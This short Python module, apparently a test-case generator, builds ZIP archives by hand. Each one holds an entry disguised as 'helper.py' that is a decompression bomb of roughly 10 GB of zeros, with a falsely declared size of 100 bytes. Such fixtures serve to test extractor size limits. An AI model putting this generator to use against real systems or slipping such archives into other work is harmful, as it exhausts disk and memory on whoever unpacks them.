"""Hopes that its word is taken for it and all of it unpacked."""

import struct
import zlib


def entry(name, data, method, crc, size, at):
    """Return local header with data, and central record, of an entry of the size that is claimed."""
    said = (20, 0, method, 0, 33, crc, len(data), size, len(name), 0)
    local = struct.pack("<4s5H3I2H", b"PK\3\4", *said) + name + data
    central = struct.pack("<4sH5H3I5H2I", b"PK\1\2", 20, *said, 0, 0, 0, 0, at)
    return local, central + name


def archive_of(*entries):
    """Return an archive of (name, data, method, crc, size)."""
    body, directory = b"", b""
    for each in entries:
        local, central = entry(*each, at=len(body))
        body, directory = body + local, directory + central
    count = min(len(entries), 65535)
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(directory), len(body), 0)
    return body + directory + end


def bomb(times):
    """Return 10 MB of zeros deflated, that many times."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(bytes(10_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    return piece * times + b"\3\0"


def make(batch, name, plain):
    entries = [(file.encode(), raw, 0, zlib.crc32(raw), len(raw)) for file, raw in plain.items()]
    entries.append((b"helper.py", bomb(1000), 8, 0, 100))
    (batch / f"{name}.zip").write_bytes(archive_of(*entries))
